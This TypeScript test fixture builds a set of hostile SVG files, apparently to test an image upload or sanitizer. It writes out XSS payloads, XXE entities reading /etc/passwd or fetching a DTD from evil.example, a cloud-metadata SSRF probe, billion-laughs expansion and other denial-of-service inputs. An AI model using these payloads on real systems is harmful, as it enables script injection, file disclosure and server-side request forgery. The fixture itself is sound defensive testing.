import { CANARY, type HostileFile, hostile, SCRIPT } from './hostile-file.ts'

const OPEN =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"'
const inside = (content: string) =>
  `${OPEN}><rect width="40" height="40" fill="#b5401a"/>${content}</svg>`
const LAUGHS = Array.from(
  { length: 12 },
  (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`,
).join('')

const CONTENTS: Record<string, string> = {
  'a script': SCRIPT,
  'a script of another site': '<script href="https://evil.example/x.js"/>',
  'a page inside': `<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</body></foreignObject>`,
  'a frame inside':
    '<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
  'a link to a script': `<a xlink:href="javascript:alert('${CANARY}')"><text y="20">x</text></a>`,
  'an animation that makes a link a script':
    '<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>',
  'a set that makes a handler': '<set attributeName="onmouseover" to="alert(1)"/>',
  'itself used in itself': '<g id="a"><use href="#a"/><use href="#a"/></g>',
  'a use of another site': '<use href="https://evil.example/x.svg#a"/>',
  'a use of a file': '<use href="file:///etc/passwd#a"/>',
  'a picture of this machine': '<image href="file:///etc/passwd" width="40" height="40"/>',
  'a picture of the network':
    '<image href="http://169.254.169.254/latest/meta-data/" width="40" height="40"/>',
  'a picture that is a page': `<image href="data:text/html,${SCRIPT}" width="40" height="40"/>`,
  'a picture that is an SVG with a script': `<image href="data:image/svg+xml;base64,${Buffer.from(`${OPEN}>${SCRIPT}</svg>`).toString('base64')}" width="40" height="40"/>`,
  'a style of another site': '<style>@import url("https://evil.example/x.css");</style>',
  'a style with an address':
    '<rect style="fill:url(https://evil.example/x.svg#a)" width="9" height="9"/>',
  'a font of another site':
    '<style>@font-face{font-family:x;src:url(https://evil.example/x.woff2)}</style><text font-family="x">x</text>',
  'a handler': `<rect onload="alert('${CANARY}')" width="9" height="9"/>`,
  'a blur of the whole':
    '<filter id="f"><feGaussianBlur stdDeviation="99999"/></filter><rect filter="url(#f)" width="40" height="40"/>',
  'a filter of another picture':
    '<filter id="f"><feImage href="file:///etc/passwd"/></filter><rect filter="url(#f)" width="40" height="40"/>',
  'a pattern in itself':
    '<pattern id="p" width="1" height="1"><rect fill="url(#p)" width="1" height="1"/></pattern><rect fill="url(#p)" width="40" height="40"/>',
  'a comment with a script': `<!-- ${SCRIPT} -->`,
  'a section of data with a script': `<![CDATA[${SCRIPT}]]>`,
  '3,000 groups within each other': `${'<g>'.repeat(3000)}${'</g>'.repeat(3000)}`,
  '100,000 points': `<path d="M0 0${' L9 9 0 3'.repeat(50_000)}"/>`,
  'an XInclude':
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
}

/** SVGs with everything that one can do besides being a picture. */
export function hostileSvgs(): HostileFile[] {
  const plain = Object.entries(CONTENTS).map(([about, content]) =>
    hostile(`svg: ${about}`, 'logo.svg', inside(content)),
  )
  const whole: Record<string, string | Buffer> = {
    'entities that grow': `<!DOCTYPE svg [<!ENTITY l0 "ha">${LAUGHS}]>${inside('<text>&l12;</text>')}`,
    'an entity of a file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${inside('<text>&x;</text>')}`,
    'an entity of the network': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>${inside('')}`,
    'a style sheet of another site': `<?xml-stylesheet href="https://evil.example/x.css"?>${inside('')}`,
    'a handler of its own': `${OPEN} onload="alert('${CANARY}')"></svg>`,
    'of 10^18 pixels':
      '<svg xmlns="http://www.w3.org/2000/svg" width="999999999" height="999999999"/>',
    'of no pixels': '<svg xmlns="http://www.w3.org/2000/svg" width="0" height="0"/>',
    'of sizes that are no numbers':
      '<svg xmlns="http://www.w3.org/2000/svg" width="NaN" height="-5" viewBox="0 0 1e99 1e-99"/>',
    'in UTF-16': Buffer.from(`\ufeff${inside(SCRIPT)}`, 'utf16le'),
    'in an encoding that it does not have': `<?xml version="1.0" encoding="UTF-7"?>${inside('+ADw-script+AD4-')}`,
    'without an end': `${OPEN}><rect`,
    'named as a PNG': inside(SCRIPT),
    'in another namespace': `<x:svg xmlns:x="http://www.w3.org/2000/svg">${SCRIPT}</x:svg>`,
  }
  const others = Object.entries(whole).map(([about, bytes]) =>
    hostile(`svg: ${about}`, about.includes('PNG') ? 'logo.png' : 'logo.svg', bytes),
  )
  return [...plain, ...others]
}
